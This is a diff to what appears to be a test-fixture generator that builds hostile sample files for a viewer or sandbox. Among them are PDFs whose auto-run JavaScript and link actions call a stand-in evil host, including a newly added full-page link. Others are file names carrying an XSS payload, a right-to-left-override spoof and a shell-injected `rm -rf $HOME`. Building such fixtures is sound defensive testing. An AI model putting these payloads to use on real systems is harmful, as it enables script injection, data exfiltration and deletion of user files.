@@ -46,13 +46,13 @@ function wav() {
     return Buffer.concat([head, samples]);
 }
 
-/** A page of text; `catalog` adds entries to the document's catalog. */
-function pdf(text, catalog = "") {
+/** A page of text; `catalog` and `page` add entries to the document's catalog and to the page. */
+function pdf(text, catalog = "", page = "") {
     const stream = `BT /F1 24 Tf 40 100 Td (${text}) Tj ET`;
     const objects = [
         `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
         "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
         `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
         "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
     ];
@@ -91,6 +91,8 @@ const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://
 const hostilePdf = pdf("Feindliches PDF", `/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://${evil}/pdf-js'\\); this.submitForm\\('http://${evil}/pdf-submit'\\);) /Next << /S /URI /URI (http://${evil}/pdf-uri) >> >>`);
 const hostilePdfUri = pdf("Feindliche Adresse", `/OpenAction << /S /URI /URI (http://${evil}/pdf-open) >>`);
 
+const link = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /Border [0 0 0] /A << /S /URI /URI (http://${evil}/pdf-link) >> >>]`;
+
 const log = Array.from({ length: 6000 }, (_, i) => `203.0.113.7 - mia [17/Nov/2026:10:00:${String(i % 60).padStart(2, "0")} +0100] "GET /seite/${i} HTTP/1.1" 200 5\n`).join("");
 
 export const contents = {
@@ -114,6 +116,7 @@ export const contents = {
     "Feind.svg": hostileSvg,
     "Feind.pdf": hostilePdf,
     "Feind2.pdf": hostilePdfUri,
+    "Verweis.pdf": pdf("Ein Verweis", "", link),
     "<img src=x onerror=document.title='EVIL'>.txt": "Ein Name wie Markup\n",
     "umgekehrt\u202Etxt.exe": "Ein Name, der sich umdreht\n",
     "'; rm -rf $HOME; '.txt": "Ein Name für eine Shell\n",
